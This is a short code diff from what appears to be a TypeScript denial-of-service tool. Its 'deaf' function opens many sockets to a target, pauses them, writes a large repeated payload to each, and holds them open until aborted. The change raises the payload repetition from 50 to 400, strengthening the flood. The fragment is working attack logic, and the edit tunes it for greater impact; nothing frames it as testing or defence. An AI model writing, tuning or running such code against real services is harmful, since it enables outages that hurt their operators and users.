@@ -41,7 +41,7 @@ const deaf = (clients: number) => async (target: Target, until: AbortSignal) => 
     if (!socket) continue;
     socket.on("error", () => {});
     socket.pause();
-    socket.write(list + page.repeat(50));
+    socket.write(list + page.repeat(400));
     sockets.push(socket);
   }
   while (!until.aborted) await sleep(100);
